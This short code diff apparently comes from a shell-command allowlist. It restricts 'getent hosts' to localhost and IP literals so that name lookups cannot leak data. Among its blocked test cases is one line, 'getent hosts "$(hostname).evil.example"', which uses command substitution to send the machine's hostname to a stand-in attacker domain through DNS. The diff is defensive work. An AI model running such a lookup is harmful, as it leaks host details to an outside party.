@@ -177,9 +177,10 @@ const people: readonly Program[] = [
       {
         sub: "hosts|ahosts|ahostsv4|ahostsv6",
         operands: ["text"],
-        talks: true,
-        match: ["getent hosts example.com", "getent hosts localhost"],
-        notMatch: ['getent hosts "$(hostname).evil.example"'],
+        // Any other name is looked up, which sends it out.
+        operandIs: /^(?:localhost|[\d.:a-fA-F]+)$/,
+        match: ["getent hosts localhost", "getent hosts 127.0.0.1"],
+        notMatch: ["getent hosts example.com", 'getent hosts "$(hostname).evil.example"'],
       },
     ]),
   ),
